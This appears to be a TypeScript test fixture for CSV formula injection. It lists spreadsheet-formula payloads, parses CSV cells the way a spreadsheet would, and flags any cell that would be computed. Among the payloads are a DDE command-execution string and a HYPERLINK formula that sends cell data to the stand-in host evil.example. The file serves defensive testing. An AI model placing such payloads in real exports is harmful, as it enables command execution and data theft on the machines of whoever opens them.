/** D13: values that a spreadsheet would compute, sent with the public token; and how a table is looked at for them. */
export const formulas = [
  '=1+1', '=cmd|\'/c calc\'!A0', '+1', '-2+3', '@SUM(1)', '\t=1', '\r=1', '\0=1', '\u001d=1', '＝1', '－1', '＋1', '＠x', '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '"=1', '";=1', ',=1', 'ok\n=1', 'ok\r\n+1', '=1\u202e',
] as const

const computed = /^[=+\-@\t\r\0\uff1d\uff0b\uff0d\uff20]/

/** Cells as a spreadsheet reads them: RFC 4180, a quoted cell may hold lines. */
export function cellsOf(csv: string): string[] {
  const cells: string[] = []
  let cell = ''
  let quoted = false
  const text = csv.replace(/^\ufeff/, '')
  for (let at = 0; at < text.length; at++) {
    const char = text[at]!
    if (quoted && char === '"' && text[at + 1] === '"') {
      cell += '"'
      at += 1
    } else if (char === '"' && (quoted || cell === '')) quoted = !quoted
    else if (!quoted && (char === ',' || char === '\n')) {
      cells.push(cell.replace(/\r$/, ''))
      cell = ''
    } else cell += char
  }
  return [...cells, cell]
}

/** Cells of a table that a spreadsheet would compute. */
export const computedCells = (csv: string): string[] => cellsOf(csv).filter((cell) => computed.test(cell))
